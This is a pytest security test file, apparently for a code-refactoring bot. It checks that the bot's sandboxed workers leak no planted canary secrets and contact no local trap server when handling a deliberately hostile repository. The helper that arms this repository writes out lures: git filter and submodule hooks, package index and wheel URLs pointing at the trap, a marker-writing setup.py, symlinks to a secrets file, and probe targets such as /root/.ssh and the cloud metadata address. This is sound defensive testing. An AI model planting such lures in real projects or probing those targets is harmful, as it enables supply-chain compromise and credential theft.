"""A refactoring of a repository whose tests attack, as a whole job: it ends with its reason, and nothing gets out."""

import asyncio
import json
import os
import secrets
import shutil
import subprocess
import tempfile
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import create_async_engine

from bot.cli.stack import running_stack
from providers.database.session import engine_url
from tests.engine.workspace.sandboxed import processes_with
from tests.flows.conftest import Bot, WorkTree
from tests.flows.shop_files import PROJECT, REFACTOR, TESTED
from tests.flows.shop_on_the_local_host import Shop, open_shop

# Floods of memory, disk and processes, three times over, are no matter of seconds where others work on the machine.
pytestmark = pytest.mark.timeout(300)
PROJECTS: Final = Path(__file__).parents[1] / "projects"
CLOUD: Final = ("169.254.169.254", 80)
SHIPPING: Final = {
    "pyproject.toml": PROJECT,
    "tests/test_shipping.py": "from shipping import shipping\n\n\ndef test():\n    assert shipping(1, True) == 502\n",
    "shipping.py": '''"""What sending costs."""


def shipping(weight, is_express):
    """The price in cents."""
    if weight is not None:
        if weight > 0:
            if is_express:
                return weight * 2 + 500
            else:
                return weight + 200
        else:
            return 0
    else:
        return 0
''',
}
LEFT_BEHIND: Final = ("3917.5", "3917.75")  # what the attacks put to sleep, seconds long


@dataclass(frozen=True)
class Trap:
    """A server on the worker's own machine that nobody may be led to."""

    port: int
    visits: list[str]


@pytest.fixture(scope="module")
def loot() -> dict[str, str]:
    """What would be worth stealing, one of each place it could be stolen from."""
    return {place: f"canary-{secrets.token_hex(8)}" for place in ("environment", "file", "other repository")}


@pytest.fixture(scope="module")
async def bot(loot: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Bot]:
    """A product of this file's own: with canaries in the environment of its workers, and beside its files."""
    folder = Path(tempfile.mkdtemp(prefix="forge-attacked-"))
    folder.chmod(0o711)
    (folder / "notes.txt").write_text(loot["file"])
    async with AsyncExitStack() as stack:
        stack.callback(shutil.rmtree, folder, ignore_errors=True)
        running = await stack.enter_async_context(
            running_stack(folder, extra={"LEASE_SECONDS": "6", "DEPLOYMENT_TOKEN": loot["environment"]})
        )
        yield Bot(running, tmp_path_factory.mktemp("clones"))
        print((folder / "worker.log").read_text()[-20_000:])  # pytest shows it beside a failure


@pytest.fixture
async def trap() -> AsyncIterator[Trap]:
    visits: list[str] = []

    async def visited(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visits.append("somebody")
        writer.close()

    server = await asyncio.start_server(visited, "127.0.0.1", 0)
    async with server:
        yield Trap(server.sockets[0].getsockname()[1], visits)


async def test_whoever_knows_the_machine_gets_at_nothing_of_it(
    bot: Bot, loot: dict[str, str], trap: Trap, tmp_path: Path
) -> None:
    neighbour = await open_shop(bot, "neighbour", {**TESTED, "secret.txt": loot["other repository"]})
    workers = bot.worker_pids()
    attacker = await open_shop(bot, "insider", TESTED)
    base = await _armed(attacker, trap, tmp_path / "marker")

    await attacker.says(REFACTOR)
    opened = await attacker.proposed()
    reply = await attacker.reply("opened #")
    head = await attacker.fetched(opened["head_branch"])
    await neighbour.says(REFACTOR)
    unharmed = await neighbour.proposed()

    assert "failed" not in reply
    assert "fail as before" not in reply
    assert attacker.tree.git("diff", "--name-only", base, head) == "shop.py"
    assert "PLANTED" not in attacker.tree.git("show", f"{head}:shop.py")
    assert (trap.visits, (tmp_path / "marker").exists()) == ([], False)
    assert [marker for marker in LEFT_BEHIND if processes_with(marker)] == []
    assert await _told_of(attacker, [*loot.values(), *_keys(bot)]) == []
    assert "| Tests | 1 passed" in unharmed["body"]
    assert not unharmed["is_draft"]
    assert bot.worker_pids() == workers


@pytest.mark.parametrize(
    ("test", "reason"),
    [
        pytest.param("test_kills_all", "was killed, or killed itself", id="kills all", marks=pytest.mark.long),
        pytest.param("test_floods", "printed more than it may", id="floods", marks=pytest.mark.long),
    ],
)
async def test_who_ends_the_run_is_told_so_and_has_proven_nothing(bot: Bot, test: str, reason: str) -> None:
    attacks = (PROJECTS / "hostile_tests" / "tests" / "test_sabotage.py").read_text()
    one = f"{attacks.partition('def test_')[0]}def {test}(){attacks.partition(f'def {test}()')[2].partition('def ')[0]}"
    shop = await open_shop(bot, test.replace("_", "-"), {**TESTED, "tests/test_sabotage.py": one})
    await shop.says(REFACTOR)
    opened = await shop.proposed()
    reply = await shop.reply("opened #")

    assert opened["is_draft"]
    assert f"| Tests | **not proven**: before anything was changed, the suite {reason}" in reply
    assert f"| Tests | **not proven**: before anything was changed, the suite {reason}" in opened["body"]


async def test_a_suite_that_forges_its_report_is_given_away_by_faults_that_it_does_not_notice(bot: Bot) -> None:
    """Whoever runs in the process that signs can sign; what it signs for broken code is a lie, and counts as none."""
    forger = (PROJECTS / "insiders_attack" / "forger.py").read_text()
    shop = await open_shop(bot, "forger", {**SHIPPING, "tests/conftest.py": forger})
    await shop.says("/forge refactor shipping.py --type=complexity_reduction")
    opened = await shop.proposed()
    reply = await shop.reply("opened #")

    assert "| Tests | 1 passed" in reply
    assert "0 of 8 mutants on the changed lines were caught" in reply
    assert opened["is_draft"]


async def _armed(shop: Shop, trap: Trap, marker: Path) -> str:
    """Everything is attacked at once: by the files of the commit, and by tests that were told where things stand."""
    tests = {
        f"tests/{name}.py": (PROJECTS / project / "tests" / f"{name}.py").read_text()
        for project, name in (("insiders_attack", "test_within"), ("hostile_tests", "test_thefts"))
    }
    address = f"http://127.0.0.1:{trap.port}"
    led_away = {
        ".gitattributes": "* filter=trap diff=trap merge=trap\n",
        ".gitmodules": f'[submodule "trap"]\n\tpath = trap\n\turl = {address}/trap.git\n',
        "uv.toml": f'index-url = "{address}/simple"\n',
        "requirements.txt": f"--extra-index-url {address}/simple\nthief @ {address}/thief-1.0-py3-none-any.whl\n",
        "setup.py": f"open({str(marker)!r}, 'w')\n",
        "pyproject.toml": f'{PROJECT}\n[tool.uv]\nindex-url = "{address}/simple"\n',
    }
    known = _known(shop.bot, shop.tree, trap, marker)
    (shop.tree.folder / "keys").symlink_to(shop.bot.root.parent / "secrets.json")
    (shop.tree.folder / "upwards").symlink_to("../" * 8)
    head = shop.tree.commit({**tests, **led_away, "tests/known.json": json.dumps(known)}, "Look around")
    await shop.tree.push("HEAD:topic")
    await shop.bot.concluded(shop.tree, head)
    return head


def _known(bot: Bot, tree: WorkTree, trap: Trap, marker: Path) -> dict[str, object]:
    settings = bot.stack.settings
    services = bot.root.parent / "services"
    sockets = [str(path) for path in services.rglob("*") if path.is_socket()]
    return {
        "paths": [str(bot.root.parent), str(settings.cache_dir), str(tree.remote.path), "/root/.ssh", "/run", *sockets],
        "addresses": [["127.0.0.1", settings.bind_port], ["127.0.0.1", trap.port], CLOUD],
        "sockets": sockets,
        "pids": [os.getpid(), *bot.worker_pids()],
        "marker": str(marker),
    }


def _keys(bot: Bot) -> list[str]:
    """The deployment's own."""
    settings = bot.stack.settings
    assert settings.local is not None
    return [settings.signing_key, *settings.local.webhook_secrets]


async def _told_of(shop: Shop, loot: list[str]) -> list[str]:
    """The places, of all where this repository's run could have left a word, in which any of the loot stands."""
    data = shop.bot.root.parent
    places = {str(path): path.read_bytes() for path in (data / "storage").rglob("*") if path.is_file()}
    places |= {"worker.log": (data / "worker.log").read_bytes(), "database": await _all_rows(shop.bot)}
    places |= {"branches": await asyncio.to_thread(_all_objects, shop.tree.remote.path)}
    assert any(path.endswith("receipt.json") for path in places)
    return [place for place, raw in places.items() if any(each.encode() in raw for each in loot)]


def _all_objects(git_dir: Path) -> bytes:
    """Everything that was ever committed or pushed there, by whomever."""
    command = ["git", "--git-dir", str(git_dir), "cat-file", "--batch-all-objects", "--batch"]
    return subprocess.run(command, capture_output=True, timeout=60, check=True).stdout


async def _all_rows(bot: Bot) -> bytes:
    """Every row of every table, as text."""
    engine = create_async_engine(engine_url(bot.stack.settings.database_url))
    try:
        async with engine.connect() as connection:
            named = await connection.scalars(text("select tablename from pg_tables where schemaname = 'public'"))
            rows = [
                row
                for table in named.all()
                for row in await connection.scalars(text(f'select t::text from "{table}" t'))
            ]
    finally:
        await engine.dispose()
    return "\n".join(rows).encode()
